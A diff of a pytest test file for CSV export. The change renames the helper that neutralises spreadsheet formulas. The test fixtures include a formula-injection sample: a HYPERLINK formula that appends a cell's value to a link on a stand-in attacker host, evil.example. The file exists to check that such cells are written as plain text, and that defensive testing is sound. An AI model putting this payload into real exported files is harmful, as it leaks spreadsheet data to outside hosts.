@@ -5,7 +5,8 @@ from pathlib import Path
 
 import pytest
 
-from cli.csv_out import inert, write_csv
+from cli.csv_out import write_csv
+from guardrails.formats import spreadsheet_cell
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -35,7 +36,7 @@ def test_formula__is_written_as_text(cell: str, tmp_path: Path) -> None:
     "cell", ["Acme", "-12.50", "+3", "-1,234.50", "2026-03-17", "12%", "", 5, None, "a=b"]
 )
 def test_anything_else__stays_as_it_is(cell: object) -> None:
-    assert inert(cell) == cell
+    assert spreadsheet_cell(cell) == cell
 
 
 def test_line_break_in_a_cell__begins_no_row(tmp_path: Path) -> None:
